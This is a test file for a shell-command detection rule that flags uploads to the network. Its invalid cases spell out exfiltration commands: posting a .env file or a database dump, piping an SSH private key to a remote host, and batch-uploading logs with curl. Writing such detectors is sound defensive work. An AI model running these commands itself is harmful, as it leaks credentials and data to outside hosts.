import rule from '../../../../server/src/core/rules/shell/upload-to-network';
import { testShellRule } from '../../../helpers/shell-rule-tester';

testShellRule(rule, {
  valid: [
    'curl https://example.com',
    'scp me@host:/tmp/a.txt .',
    'rsync -av src/ dest/',
    'ssh host "bash -s" < setup.sh',
    'curl --data-raw "@notafile" https://x',
    'rsync /dev/null host:dir/',
    'scp build.tar me@localhost:/tmp/',
  ],
  invalid: [
    {
      code: 'curl --upload-file notes.txt https://x',
      errors: [{ messageId: 'upload', line: 1, column: 6, severity: 'warning' }],
    },
    {
      code: 'curl -d @.env https://x',
      errors: [{ messageId: 'uploadSecret', line: 1, column: 6, severity: 'error' }],
    },
    { code: 'wget --post-file=db.dump https://x', errors: [{ messageId: 'uploadDump', line: 1, column: 6 }] },
    {
      code: 'rsync -avz -e "ssh -p 22" ./site host:/var/www',
      errors: [{ messageId: 'upload', line: 1, column: 27 }],
    },
    {
      code: "ssh host 'cat > k' < ~/.ssh/id_ed25519",
      errors: [{ messageId: 'uploadSecret', line: 1, column: 20 }],
    },
    {
      code: 'find . -name "*.log" | xargs -I{} curl -T {} ftp://x/',
      errors: [{ messageId: 'upload', line: 1, column: 40 }],
    },
  ],
});
